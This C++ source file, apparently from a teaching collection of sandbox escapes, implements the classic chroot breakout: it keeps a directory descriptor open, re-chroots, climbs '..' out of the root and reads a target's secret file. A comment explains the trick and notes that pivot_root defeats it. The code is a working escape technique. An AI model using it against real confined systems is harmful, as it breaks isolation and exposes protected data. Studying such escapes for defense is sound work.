// chroot-fd: out of a chroot, by a directory that is kept open.
//
// chroot(2) changes what "/" means, and nothing else: a directory that was opened before is still
// open. Who may call chroot again can stand in it, outside of the new root, and then ".." has no
// end at which it stops. pivot_root leaves nothing above the root to climb to.
#include "sys/path.hpp"
#include "teach/escapes/escapes.hpp"

#include <cerrno>

namespace teach {

sys::Result<std::string> chroot_fd(const Prey& prey) {
    sys::Fd kept = TRY(sys::openat(AT_FDCWD, "/", O_RDONLY | O_DIRECTORY));
    auto made = sys::mkdirat(AT_FDCWD, "/tmp", 0755); // any directory will do
    if (!made && made.error().code != EEXIST)
        return std::unexpected(std::move(made).error());
    TRY(sys::chroot("/tmp"));
    TRY(sys::fchdir(kept.get())); // above our root now
    for (int i = 0; i < 64; ++i)
        TRY(sys::chdir(".."));
    TRY(sys::chroot("."));
    return sys::read_file(prey.secret());
}

} // namespace teach
